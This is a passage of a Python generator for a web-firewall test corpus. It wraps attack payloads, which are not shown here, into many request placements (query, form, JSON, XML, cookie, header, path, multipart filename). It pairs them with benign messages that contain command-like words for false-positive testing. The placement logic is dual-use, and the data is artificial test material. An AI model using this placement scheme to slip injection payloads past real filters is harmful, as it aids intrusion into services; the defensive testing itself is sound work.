            parts.append(f"--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
        else:
            fn = filename.replace("\"", "%22").replace("\r", "%0D").replace("\n", "%0A")
            parts.append(f"--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"{fn}\"\r\n"
                         f"Content-Type: application/octet-stream\r\n\r\n{value}\r\n")
    return f"multipart/form-data; boundary={boundary}", "".join(parts) + f"--{boundary}--\r\n"


def _split_pair(p: P) -> tuple[str, P]:
    name, _, value = p.text.partition("=")
    return name, P(value, p.enc)


def _ours(place: str, p: P, n: int, pair: bool) -> dict[str, Any]:
    """The payload in one of our real routes."""
    h = _browser_headers(n)
    pname = OUR_NAMES[n % len(OUR_NAMES)]
    val = p
    if pair:
        pname, val = _split_pair(p)
    page = str(n % 5 + 1)
    per_page = ("20", "50", "100")[n % 3]
    if place == "query":
        if pair:
            qs = f"{urllib.parse.quote(pname, safe='[]')}={_url(val)}&page={page}"
        elif n % 2:
            qs = f"q={_url(val)}&page={page}&per_page={per_page}"
        else:
            qs = f"page={page}&per_page={per_page}&sort=name&q={_url(val)}"
        return {"method": "GET", "uri": f"/api/users?{qs}", "body": "", "headers": h}
    if place == "form":
        name = pname if pair else "q"
        body = f"csrf_token={_tok(n, 'csrf')}&{urllib.parse.quote_plus(name)}={_form_value(val)}&role=any"
        return {"method": "POST", "uri": "/admin/users/search", "body": body,
                "headers": {**h, "Accept": "text/html,application/xhtml+xml,*/*;q=0.8",
                            "Content-Type": "application/x-www-form-urlencoded",
                            "Origin": "https://app.example.com", "Sec-Fetch-Mode": "navigate"}}
    if place in ("json", "json-patch"):
        key = pname if pair else ("bio", "name", "title", "department", "website", "notes")[n % 6]
        doc: dict[str, Any] = {"name": "Ann Lee", "email": f"ann.lee{n}@example.org", "department": "Sales",
                               "title": "Account manager"}
        body = _json_body(doc, (key,), val)
        uri, method = ("/api/users/42", "PATCH") if place == "json-patch" else ("/api/users", "POST")
        return {"method": method, "uri": uri, "body": body,
                "headers": {**h, "Content-Type": "application/json", "Origin": "https://app.example.com"}}
    if place == "cookie":
        name = pname if pair else ("prefs", "last_search", "lang", "theme", "recent_file")[n % 5]
        cookie = f"session={_tok(n, 'session', 32)}; cookie_consent=accepted; {name}={_cookie_value(val)}"
        return {"method": "GET", "uri": f"/api/users?page={page}", "body": "", "headers": {**h, "Cookie": cookie}}
    if place.startswith("header:"):
        hname = place.split(":", 1)[1]
        return {"method": "GET", "uri": f"/api/users?page={page}&per_page={per_page}", "body": "",
                "headers": {**h, hname: _header_value(val)}}
    if place == "path":
        prefix = ("/api/users/", "/api/files/", "/api/users/42/avatar/")[n % 3]
        return {"method": "GET", "uri": prefix + _url(val), "body": "", "headers": h}
    if place == "param-name":
        return {"method": "GET", "uri": f"/api/users?page={page}&{_url(val)}=1", "body": "", "headers": h}
    if place == "xml":
        body = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<user><name>Ann Lee</name>"
                f"<email>ann.lee{n}@example.org</email><note>{xml_escape(val.text)}</note></user>")
        return {"method": "POST", "uri": "/api/users", "body": body,
                "headers": {**h, "Content-Type": "application/xml"}}
    if place in ("multipart-field", "multipart-filename"):
        if place == "multipart-filename":
            fields: list[tuple[str, str, str | None]] = [
                ("csrf_token", _tok(n, "csrf"), None), ("title", "Profile picture", None),
                ("avatar", "GIF89a placeholder image bytes", val.text)]
        else:
            fname = pname if pair else "notes"
            fields = [("csrf_token", _tok(n, "csrf"), None), ("name", "Ann Lee", None), (fname, val.text, None)]
        ctype, body = _multipart(fields, n)
        return {"method": "POST", "uri": "/api/users" if n % 2 else "/admin/users/import", "body": body,
                "headers": {**h, "Content-Type": ctype}}
    raise ValueError(place)


def _rs(place: str, p: P, n: int, pair: bool) -> dict[str, Any]:
    """The payload the way a WAF regression suite sends it: to a path that is not our route."""
    path = RS_PATHS[n % len(RS_PATHS)]
    pname = RS_NAMES[n % len(RS_NAMES)]
    val = p
    if pair:
        pname, val = _split_pair(p)
    h = _suite_headers()
    if place == "rs-query":
        return {"method": "GET", "uri": f"{path}?{urllib.parse.quote(pname, safe='[]')}={_url(val)}", "body": "",
                "headers": h}
    if place == "rs-form":
        return {"method": "POST", "uri": path, "body": f"{urllib.parse.quote_plus(pname)}={_form_value(val)}",
                "headers": {**h, "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "rs-json":
        return {"method": "POST", "uri": path, "body": _json_body({}, (pname,), val),
                "headers": {**h, "Content-Type": "application/json"}}
    if place == "rs-xml":
        body = f"<?xml version=\"1.0\"?>\n<root><{pname}>{xml_escape(val.text)}</{pname}></root>"
        return {"method": "POST", "uri": path, "body": body, "headers": {**h, "Content-Type": "text/xml"}}
    if place == "rs-raw-body":
        return {"method": "POST", "uri": path, "body": val.text,
                "headers": {**h, "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "rs-cookie":
        return {"method": "GET", "uri": path, "body": "", "headers": {**h, "Cookie": f"{pname}={_cookie_value(val)}"}}
    if place.startswith("rs-header:"):
        hname = place.split(":", 1)[1]
        if hname == "X-Filename":
            return {"method": "POST", "uri": path, "body": "x",
                    "headers": {**h, "Content-Type": "application/octet-stream", hname: _header_value(val)}}
        return {"method": "GET", "uri": path, "body": "", "headers": {**h, hname: _header_value(val)}}
    if place == "rs-multipart-filename":
        ctype, body = _multipart([("file", "test content", val.text)], n)
        return {"method": "POST", "uri": path, "body": body, "headers": {**h, "Content-Type": ctype}}
    raise ValueError(place)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for t, title in enumerate(TITLES):
        ours = title.ours or OURS
        rs = title.rs or RS
        if title.sub in UPLOAD_TITLES:
            ours, rs = UPLOAD_OURS, UPLOAD_RS
        for i, item in enumerate(title.payloads):
            p = item if isinstance(item, P) else P(item)
            places = [ours[(i + t) % len(ours)], rs[(i + 2 * t) % len(rs)]]
            # a JSON-escaped payload only means something in a JSON body: keep one of its places JSON
            if p.enc == "jsonu" and not title.pair and ours is OURS:
                places[0] = "json"
            if p.enc == "jsonu" and "rs-json" in rs:
                places[1] = "rs-json"
            for place in places:
                n += 1
                req = (_rs if place.startswith("rs-") else _ours)(place, p, n, title.pair)
                yield {**req, "id": f"{NAME}-{title.category}-{n:04d}", "category": title.category,
                       "sub": title.sub, "placement": place, "payload": p.text}


# ---------------------------------------------------------------------------------------------------------------
# benign: the same words, innocently
# ---------------------------------------------------------------------------------------------------------------

SLACK_TEXTS = [
    "can someone cat the nginx error log on staging and paste the last 20 lines here?",
    "ls shows the upload folder is empty, did the cron job run?",
    "I pinged the vendor twice, no answer yet",
    "ping me when the deploy is done, I'll check the dashboard",
    "the id column in the users table is a bigint now",
    "who am I kidding, this sprint is overloaded",
    "net income for Q2 came in above forecast",
    "type the customer name into the search box and hit enter",
    "the dir listing on the file share is slow again",
    "for loops in the report script take forever, let's vectorise",
    "if it exists, use the cached copy, otherwise fetch again",
    "our .htaccess rules were replaced by the nginx config last year",
    "IIS reads its settings from web.config, that's why the redirect broke",
    "never commit the .env file, it's in .gitignore for a reason",
    "the hosts file on my laptop still points api.local to 127.0.0.1",
    "wget is not installed on the build image, use curl instead",
    "curl the health endpoint and check it returns 200",
    "PowerShell 7 is installed on all the Windows runners now",
    "Get-Help is your friend when the cmdlet docs are offline",
    "the Python script reads the CSV and writes a summary",
    "ruby and perl are gone from the base image, only python3 left",
    "set an alias for kubectl, typing it all day hurts",
    "my shell history has that command, give me a sec",
    "bash completion for git is broken on the new macs",
    "the sh script exits early when the file is missing",
    "echo the variable before you use it, it was empty",
    "sleep well everyone, see you Monday",
    "sudo access request approved for the on-call rota",
    "the SMTP relay rejected the mail from noreply, checking SPF",
    "IMAP sync on my phone is stuck again",
    "POP3 is disabled on the mail server, use IMAP",
    "HELO greeting from the relay shows the old hostname",
    "sqlite is fine for the prototype, postgres for prod",
    "use .import in the sqlite shell to load the csv for testing",
    "the attacker in the pentest report used a phishing mail",
    "the exec team meets on Thursday",
    "Chrome shows a warning for http links, switch them to https",
    "docs for the API are at https://docs.example.com/api/v2/",
    "the config lives in /etc/myapp/config.yaml on the VMs",
    "logs are in /var/log/myapp, rotated daily",
    "copy the template from C:\\Users\\Public\\Templates",
    "the tar archive of the photos is 3 GB",
    "can you chmod the deploy script so it's executable?",
    "the find command found 12 stale files",
    "our for/if logic in the workflow builder is confusing users",
    "the cmd window flashes when the installer runs",
    "task manager says the process uses 2 GB",
    "system info page shows the wrong OS version",
    "regular expressions in the filter are case sensitive",
    "reg. number of the company is 0123456",
    "please attach the invoice as pdf, not as a zip",
    "the upload of report.pdf failed with a timeout",
    "uploads of .docx files work again after the fix",
    "the profile photo is stored as avatar.png",
    "history of the project is in the wiki",
    "alias names for the team channels are in the doc",
    "who's on call this weekend?",
    "the mail merge for the newsletter is scheduled",
    "the template engine escapes everything by default",
    "remote includes are disabled in the CMS config",
    "the include path for the legacy PHP app is set in php.ini",
    "the CDN serves the files from https://cdn.example.net/assets/",
    "the partner portal links to https://partner.example.org/login",
    "10.0.0.5 is the internal DNS, 10.0.0.6 the backup",
    "the service runs on port 8080 behind the proxy",
    "the cat is asleep on my keyboard, sorry for the typos",
    "dog walking at noon, back in 30",
    "the form field for the tax id is required",
    "the path of the report is Reports/2024/Q2",
    "paths in the zip use backslashes because it came from Windows",
    "the script failed with 'permission denied' on /tmp",
    "the user agent string of the mobile app includes the build number",
    "referer is missing on requests from the mobile app",
    "the cookie banner text was updated by legal",
    "the search for 'net' returns too many results",
    "the search results for 'type' should include the Type field",
    "ask Ping about the vendor contract, she negotiated it",
    "Dr. Id Ahmed joins the board next month",
    "Echo Park office is closed on Friday",
    "our curling team won the office league",
    "the Alias Grace book club meets on Tuesday",
    "History Channel documentary on the moon landing was great",
    "for what it's worth, I liked the old logo more",
    "if only the train were on time",
    "the tail of the queue is long today",
    "head of sales wants the numbers by noon",
    "the who's who of the industry will be at the conference",
    "the env variables are documented in the README",
    "a short trip to the mountains, back Monday",
    "use the shell of the old project as a starting point",
    "the Windows command prompt is cmd, PowerShell is the newer one",
    "see the section about .git folders in the security checklist",
    "config files like web.config and .htaccess must never be uploaded by users",
    "the ops team reviewed the proc mounts on the containers",
    "my password manager generated a 24-character phrase",
    "the etc. at the end of the list covers the rest",
    "what's the ETA for the new feature?",
    "grep the logs for the request id and share it",
    "the unzip step fails on filenames with spaces",
    "the awk one-liner from last week saved me an hour",
    "let's make dinner reservations for the team, 7 people",
    "the survey results: 73% happy with remote work",
    "the rm command deletes the temp files after the export",
    "the tac in the diner is delicious",
    "du bist herzlich eingeladen",
    "ps: the meeting moved to 3pm",
    "w/ the new pricing we're competitive",
    "df is a dataframe in the notebook",
    "the od team has a new lead",
]

PUBLIC_URLS = [
    "https://www.example.com/products/chairs?color=blue",
    "https://docs.example.com/guide/setup.html#windows",
    "https://github.com/acme/widgets/blob/main/docs/install.md",
    "https://en.wikipedia.org/wiki/Unix_shell",
    "https://learn.microsoft.com/en-us/powershell/scripting/overview",
    "https://www.sqlite.org/cli.html",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://learn.microsoft.com/en-us/iis/configuration/",
    "https://cdn.example.net/assets/app.js?v=2024.06.1",
    "https://partner.example.org/catalog?page=3&sort=price",
    "http://example.com/",
    "https://203.0.113.10.nip.io/status",
    "https://maps.example.com/search?q=10+Downing+Street",
    "https://blog.example.com/2024/05/12/why-we-use-bash",
    "https://news.example.com/article?id=123456",
    "https://shop.example.com/cart?item=42&qty=2",
    "https://calendar.example.com/event?date=2024-07-01",
    "https://www.gnu.org/software/bash/manual/bash.html",
    "https://datatracker.ietf.org/doc/html/rfc5321",
    "https://datatracker.ietf.org/doc/html/rfc3501",
    "https://www.php.net/manual/en/function.include.php",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://example.org/files/annual-report-2023.pdf",
    "https://img.example.com/avatars/ann.png?size=64",
    "https://forms.example.com/s/abc123?ref=newsletter",
    "https://status.example.com/",
    "https://support.example.com/hc/en-us/articles/360001234",
    "https://jobs.example.com/positions?dept=engineering&loc=remote",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://translate.example.com/?sl=de&tl=en&text=hallo",
]

PROSE = [
    "Cat Stevens",
    "Dir. of Sales",
    "Net income report 2023",
    "Type 2 diabetes research",
    "Ping Wang",
    "Id card renewal",
    "Who am I essay",
    "Echo Park",
    "Curl Up & Dye salon",
    "Alias Grace",
    "History of Rome",
    "Shell Oil invoices",
    "Perl Street 12",
    "Ruby Rose",
    "Python training for analysts",
    "Find my order",
    "Sleep study participants",
    "Head of Finance",
    "Tail wind logistics",
    "Tar Heels alumni",
    "Sort by last name",
    "Mail room staff",
    "Env. compliance officer",
    "Task force members",
    "Reg Johnson",
    "Sc. D. candidates",
    "Power shell company reports",
    "For sale by owner",
    "If you can dream it",
    "Do not disturb list",
    "Set up meetings",
    "Start date next week",
    "Call center team",
    "Copy editor",
    "Del Rey publishing",
    "Attrib. to the author",
    "Rundle Mall store",
    "Telnet Industries",
    "Net 30 payment terms",
    "Dell laptops inventory",
    "O'Brien, Siobhan",
    "Müller & Söhne GmbH",
    "José Álvarez",
    "42 Wallaby Way, Sydney",
    "Suite 100, 1 Infinite Loop",
    "user 1; admin 2",
    "tickets | open | urgent",
    "R&D budget 2024",
    "A & B consulting",
    "50% off & free shipping",
    "Q&A session notes",
    "who's who directory",
    "yes/no answers",
    "and/or condition",
    "the quick brown fox",
    "read me first",
    "see attached file",
    "system administrator",
    "root cause analysis",
    "passwd reset requests",
]

SEARCHES = [
    "ann", "john smith", "cat", "ls", "id 4432", "ping", "net", "type", "dir", "for", "if", "who", "echo",
    "alias", "history", "shell", "powershell training", "bash", "python", "perl", "ruby", "php developer",
    "windows admin", "linux admin", "etc", "passwd reset", "hosts", "web config", "htaccess", "git", "env",
    "smtp", "imap", "pop3", "sqlite", "system", "exec", "command", "cmd", "run", "start", "set", "call",
    "copy", "del", "attrib", "reg", "sc", "task", "kill", "find", "sort", "head", "tail", "cut", "tac", "od",
    "du", "df", "ps", "w", "nc", "sh", "wget", "curl", "nslookup", "ipconfig", "whoami", "uname", "chmod",
    "sales; marketing", "R&D", "A|B testing", "O'Reilly", "\"exact phrase\"", "c++ developer", "c# .net",
    "node.js", "vue/react", "100%", "50% off", "$100", "#general", "@ann", "ann@example.org", "2024-06-01",
    "(555) 123-4567", "+1 555 0100", "http", "https://example.com", "example.com", "10.0.0.1", "localhost",
    "report.pdf", "avatar.png", "invoice_2024.xlsx", "notes.txt", "C:\\Users", "/home", "~/Documents",
    "Reports/2024", "v1.2.3", "ticket #4512", "who's on call", "what is my id", "how to ping a server",
    "type of account", "for sale", "if needed", "set up", "net 30", "cat food order",
]

BENIGN_FILENAMES = [
    "resume.pdf", "team-photo.jpg", "avatar.png", "invoice_2024-03.xlsx", "notes.txt", "contract (signed).pdf",
    "Q2 report.docx", "screenshot 2024-06-01 at 10.42.13.png", "budget-v2.csv", "logo.svg", "slides.pptx",
    "config-notes.txt", "htaccess-tutorial.pdf", "web-config-guide.docx", "shell-scripting-101.pdf",
    "powershell-cheatsheet.pdf", "etc-hosts-explained.md", "README.md", "data.json", "export.sql",
    "photo_0042.heic", "Müller_Lebenslauf.pdf", "plan.final.FINAL.docx", "scan0001.tif", "archive.zip",
    "env-setup.md", "ssh-keys-howto.txt", "history-essay.docx", "alias-list.csv", "cmd-reference.pdf",
]

BENIGN_UAS = [
    BROWSER_UA, MAC_UA,
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.0.0",
    "curl/8.5.0", "python-requests/2.32.3", "Wget/1.21.4", "PowerShell/7.4.2",
    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.2",
    "okhttp/4.12.0", "axios/1.7.2", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Go-http-client/2.0",
    "AcmeMobile/5.2.1 (iPhone; iOS 17.5; Scale/3.00)", "AcmeDesktop/2.3.0 Electron/30.1.0", "Java/17.0.11",
    "Apache-HttpClient/5.3 (Java/21.0.3)", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
]

BENIGN_REFERERS = [
    "https://app.example.com/users?page=2", "https://app.example.com/admin/users/search?q=ann",
    "https://www.google.com/", "https://www.bing.com/search?q=acme+users", "https://app.example.com/",
    "https://app.example.com/reports/2024/q2", "https://docs.example.com/guide/setup.html#windows",
    "https://mail.example.com/", "https://app.example.com/settings/profile",
    "https://app.example.com/files?path=Reports%2F2024", "https://t.co/abc123",
    "https://app.example.com/search?q=cat+food", "https://app.example.com/search?q=who+is+on+call",
    "https://intranet.example.com/wiki/Shell_scripting", "https://app.example.com/help?topic=powershell",
]

BENIGN_PATHS = [
    "ann.lee", "42", "42/avatar", "1001/files/report.pdf", "john.smith%40example.org", "jos%C3%A9",
    "42/settings", "me", "search", "7f3c2a9e-1b4d-4c8e-9a6f-2d5e8b1c0a73", "42/history", "42/aliases",
    "o%27brien", "team-sales", "2024-06-01", "42/avatar.png", "cat", "id", "ping", "type", "net",
]

BENIGN_RS = [
    ("/", "lang", "en"), ("/index.php", "page", "about"), ("/index.php", "id", "42"), ("/get", "foo", "bar"),
    ("/search", "q", "cat food"), ("/search", "q", "how to use the dir command"), ("/api/v1/items", "id", "1001"),
    ("/api/v1/items", "sort", "price"), ("/cgi-bin/test.cgi", "name", "Ann Lee"), ("/get", "test", "hello world"),
    ("/search", "q", "powershell tutorial"), ("/search", "q", "linux cat command"), ("/index.php", "x", "1"),
    ("/", "utm_source", "newsletter"), ("/get", "var", "value"), ("/search", "q", "web.config example"),
    ("/index.php", "option", "com_content"), ("/index.php", "view", "article"), ("/search", "q", "who am i"),
    ("/api/v1/items", "filter", "color:blue"), ("/search", "q", "alias in bash"), ("/get", "arg1", "report.pdf"),
    ("/search", "q", "history of ping"), ("/", "ref", "https://partner.example.org/"),
    ("/cgi-bin/test.cgi", "id", "7"), ("/search", "q", "etc"), ("/search", "q", "smtp relay setup"),
    ("/get", "id", "ann@example.org"), ("/search", "q", "net income"), ("/index.php", "lang", "de"),
]

BENIGN_JSON_DOCS = [
    {"name": "Cat Nguyen", "title": "Shell scripting instructor", "department": "Training"},
    {"name": "Ann Lee", "bio": "I write PowerShell and bash scripts for a living."},
    {"name": "Bob Ping", "notes": "Prefers email; IMAP only, no POP3."},
    {"name": "Echo Torres", "website": "https://echo.example.com/"},
    {"name": "Dir Patel", "department": "Net Operations"},
    {"name": "Ruby Alias", "bio": "History teacher. Loves sqlite and small tools."},
    {"name": "Ann", "tags": ["ops", "windows", "linux", "cmd"]},
    {"name": "Ann", "files": ["report.pdf", "notes.txt", "avatar.png"]},
    {"name": "Ann", "address": "10 Downing St, London; Flat 2"},
    {"name": "Ann", "bio": "Worked at A & B | C consulting (2019-2023)."},
    {"name": "Ann", "bio": "I type fast; I ping slow."},
    {"name": "Ann", "website": "http://example.com/~ann/"},
    {"name": "Ann", "bio": "Fan of the who, the cure, and the cat empire."},
    {"name": "Ann", "bio": "Config nerd: web.config, nginx.conf, you name it."},
    {"name": "Ann", "bio": "My favourite commands are cd and ls."},
    {"name": "Ann", "bio": "If it works, don't touch it; for everything else, there's a ticket."},
    {"name": "Ann", "title": "Senior SMTP engineer", "department": "Mail"},
    {"name": "Ann", "bio": "Sleep, eat, code, repeat."},
    {"name": "Ann", "prefs": {"theme": "dark", "lang": "en-GB", "tz": "Europe/London"}},
    {"name": "Ann", "phone": "+44 20 7946 0958", "email": "ann.lee@example.org"},
]

BENIGN_XML_NOTES = [
    "Met with the net ops team", "Prefers PowerShell over cmd", "Cat allergy", "History of late payments: none",
    "Call after 3pm", "Uses the alias 'AL' in chat", "Ping before visiting", "Type A personality, in a good way",
    "Works on the shell scripts", "Moved to Echo Park office", "Wants .pdf invoices", "Dir. of operations",
    "R&D liaison", "Read the docs at https://docs.example.com/", "For the Q3 review",
]

BENIGN_COOKIES = [
    "lang=en-GB", "theme=dark", "last_search=cat%20food", "recent_file=report.pdf", "prefs=%7B%22tz%22%3A%22UTC%22%7D",
    "tz=Europe%2FLondon", "sidebar=collapsed", "last_search=who%20is%20on%20call", "recent_file=notes.txt",
    "ab_test=variant_b", "currency=EUR", "last_search=net%20income", "lang=de-DE", "last_search=ping%20wang",
    "recent_file=Q2%20report.docx", "consent_version=3", "last_search=powershell", "view=grid",
    "last_search=type%20of%20account", "font_size=large",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)

    def rec(kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        return {**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement}

    for i, term in enumerate(SEARCHES):
        n += 1
        p = P(term)
        place = ("query", "form", "query", "json")[i % 4]
        yield rec("search", place, _ours(place, p, n, False))
    for fname in BENIGN_FILENAMES:
        n += 1
        yield rec("upload", "multipart-filename", _ours("multipart-filename", P(fname), n, False))
        n += 1
        yield rec("upload", "rs-multipart-filename", _rs("rs-multipart-filename", P(fname), n, False))
    for i, ua in enumerate(BENIGN_UAS):
        n += 1
        req = _ours("query", P(("ann", "john smith", "sales")[i % 3]), n, False)
        yield rec("header", "header:User-Agent", {**req, "headers": {**req["headers"], "User-Agent": ua}})
    for ref in BENIGN_REFERERS:
        n += 1
        req = _ours("query", P("ann"), n, False)
        yield rec("header", "header:Referer", {**req, "headers": {**req["headers"], "Referer": ref}})
    for seg in BENIGN_PATHS:
        n += 1
        yield rec("path", "path", {"method": "GET", "uri": f"/api/users/{seg}", "body": "",
                                   "headers": _browser_headers(n)})
    for i, (path, name, value) in enumerate(BENIGN_RS):
        n += 1
        if i % 3 == 2:
            req = {"method": "POST", "uri": path, "body": urllib.parse.urlencode([(name, value)]),
                   "headers": {**_suite_headers(), "Content-Type": "application/x-www-form-urlencoded"}}
            yield rec("rs", "rs-form", req)
        else:
            uri = f"{path}?{urllib.parse.urlencode([(name, value)], quote_via=urllib.parse.quote)}"
            yield rec("rs", "rs-query", {"method": "GET", "uri": uri, "body": "", "headers": _suite_headers()})
    for i, doc in enumerate(BENIGN_JSON_DOCS):
        n += 1
        uri, method = ("/api/users/42", "PATCH") if i % 3 == 0 else ("/api/users", "POST")
        yield rec("profile", "json", {"method": method, "uri": uri, "body": json.dumps(doc, ensure_ascii=False),
                                      "headers": {**_browser_headers(n), "Content-Type": "application/json"}})
    for note in BENIGN_XML_NOTES:
        n += 1
        yield rec("xml", "xml", _ours("xml", P(note), n, False))
    for cookie in BENIGN_COOKIES:
        n += 1
        h = _browser_headers(n)
        yield rec("cookie", "cookie", {"method": "GET", "uri": "/api/users?page=1", "body": "",
                                       "headers": {**h, "Cookie": h["Cookie"] + "; " + cookie}})
    for i, term in enumerate(SEARCHES[:60]):
        n += 1
        yield rec("rs", "rs-query", _rs("rs-query", P(term), n + i, False))


if __name__ == "__main__":
    print_records(attacks(), benign())
